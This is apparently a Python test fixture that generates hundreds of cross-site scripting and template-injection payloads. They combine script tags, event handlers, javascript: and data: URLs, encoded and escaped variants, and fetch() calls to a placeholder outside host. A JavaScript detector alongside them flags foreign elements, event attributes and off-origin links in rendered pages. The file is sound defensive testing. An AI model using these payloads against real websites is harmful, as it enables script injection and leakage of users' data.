"""Texts that would do something, were a page to take them for more than texts; each tells its number then."""

from itertools import product

ELSEWHERE = "//elsewhere.test"
# What each would do: leave a mark, open a dialog, or speak to somebody else.
ACTIONS = ("pwned={n}", "alert({n})", f"fetch('{ELSEWHERE}/{{n}}')")
# Markup that does it, at once or when the page is used.
TAGS = (
    "<script>{js}</script>",
    "<script src={away}></script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script/x>{js}</script>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src={away}>",
    "<img/src=x onerror={js}>",
    "<IMG SRC=x oNeRrOr='{js}'>",
    "<img src=x\tonerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a href=javascript:{js}><text y=9>x</text></a></svg>",
    "<math><a href=javascript:{js}>x</a></math>",
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<button onclick={js}>x</button>",
    "<p onmouseover={js}>x",
    "<x contenteditable onblur={js}>x",
    "<video src=x onerror={js}>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<iframe src=javascript:{js}></iframe>",
    '<iframe srcdoc="<script>{js}</script>">',
    "<iframe src=data:text/html,<script>{js}</script>>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<a href=javascript:{js}>x</a>",
    "<a href=JaVaScRiPt:{js}>x</a>",
    "<a href='java\tscript:{js}'>x</a>",
    "<a href=&#106;avascript:{js}>x</a>",
    "<a href=data:text/html,<script>{js}</script>>x</a>",
    "<form action=javascript:{js}><button>x</button></form>",
    "<button formaction=javascript:{js} form=x>x</button>",
    "<link rel=stylesheet href={away}>",
    "<style>@import '{away}';</style>",
    "<p style=background:url({away})>x",
    "<meta http-equiv=refresh content=0;url={away}>",
    "<base href={away}>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
)
# What they would have to get out of first.
EXITS = ("", "'\">", "</script>", "</textarea></title>", "-->")
# No markup as they stand: somebody would have to decode, run or fill them in.
HIDDEN = (
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "&#x3c;svg onload={js}&#x3e;",
    "%3Cscript%3E{js}%3C/script%3E",
    "%253Csvg onload={js}%253E",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={js}\\x3e",
    "＜script＞{js}＜/script＞",
    "javascript:{js}",
    "javascript:{js}//http://x.test",
    "data:text/html,<!doctype html>{js}",
    "';{js}//",
    '";{js}//',
    "`;{js}//`",
    "${{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{191*7}}}}{js}",
    "{{% print(191*7) %}}{js}",
    "<%= 191*7 %>{js}",
    "#{{191*7}}{js}",
    '"}},"x":{{"y":"{js}',
    '\\");{js}//',
    "\u202e{js}\u202c",
    "\u2028{js}\u2029",
    "__proto__[x]={js}",
)
FILLED_IN = "1337"  # 191 times 7: a template that was filled in


def _fill(template: str, action: str, number: int) -> str:
    return template.format(js=action.format(n=number), away=f"{ELSEWHERE}/{number}")


def _all() -> tuple[list[str], list[str]]:
    forms = [(way_out + tag, True) for way_out, tag in product(EXITS, TAGS)] + [
        (hidden, False) for hidden in HIDDEN
    ]
    found: dict[bool, dict[str, None]] = {True: {}, False: {}}
    for number, ((form, shows), action) in enumerate(product(forms, ACTIONS)):
        if "{js}" in form or action is ACTIONS[0]:
            found[shows][_fill(form, action, number)] = None
    return list(found[True]), list(found[False])


MARKUP, NO_MARKUP = _all()
PAYLOADS = MARKUP + NO_MARKUP

# The elements that pages of ours are made of.
OURS = [
    *("html", "head", "meta", "title", "link", "script", "body", "header", "nav", "main", "section", "article"),
    *("h1", "h2", "h3", "p", "div", "span", "a", "img", "b", "br", "strong", "mark", "code", "pre", "kbd", "time"),
    *("ul", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "figure", "figcaption"),
    *("form", "input", "button", "label", "select", "option", "optgroup", "textarea", "fieldset", "legend"),
    *("details", "summary", "dialog", "progress", "aside", "ol", "em", "h4", "wbr", "bdi"),
]

# What is strange in a document: elements, attributes and addresses that are none of ours, and marks left behind.
STRANGE = """([ours, markup]) => {
  const parsed = markup === undefined ? document : new DOMParser().parseFromString(markup, "text/html");
  const found = markup === undefined && window.pwned !== undefined ? [`ran: ${window.pwned}`] : [];
  const links = ["href", "src", "action", "formaction", "data", "xlink:href"];
  const home = location.origin === "null" ? "http://here.test" : location.origin;
  const all = (root) => [...root.querySelectorAll("*")].flatMap((one) =>
    [one, ...(one.localName === "template" ? all(one.content) : [])]);
  for (const element of all(parsed)) {
    const name = element.localName;
    const drawn = element.matches("svg.plot, svg.plot :is(g, path, line, circle, text)");
    if (!ours.includes(name) && !drawn) found.push(`<${name}>`);
    if (name === "script" && element.textContent) found.push("inline script");
    for (const { name: attribute, value } of element.attributes) {
      const mail = name === "a" && value.startsWith("mailto:"); // guidelines may have addresses of people
      const foreign = links.includes(attribute) && !mail && new URL(value, home).origin !== home;
      const runs = attribute.startsWith("on") || ["srcdoc", "http-equiv"].includes(attribute);
      const loads = attribute === "style" && value.includes("url");
      if (foreign || runs || loads) found.push(`<${name} ${attribute}=${value}>`);
    }
  }
  return found;
}"""
